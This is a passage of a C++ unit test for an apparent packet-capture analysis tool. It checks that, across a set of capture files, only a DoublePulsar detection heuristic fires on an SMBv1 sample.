    ++captures;
    Diagnostics d;
    auto flows = normalize::capture_flows(f->bytes(), it->path().string(), d);
    ASSERT_TRUE(flows) << it->path();
    for (const auto& finding : findings_of(*flows))
      if (finding.rule_id != detect::heuristics::kSmb1Rule && finding.rule_id != detect::heuristics::kNetworkMiningRule)
        ++rules[finding.rule_id + " " + it->path().filename().string()];
  }
  EXPECT_GE(captures, 49u);
  EXPECT_EQ(rules, (std::map<std::string, size_t>{{"heuristic.doublepulsar smbv1.pcap", 1}}));
}

}  // namespace
}  // namespace msw::formats::pcap
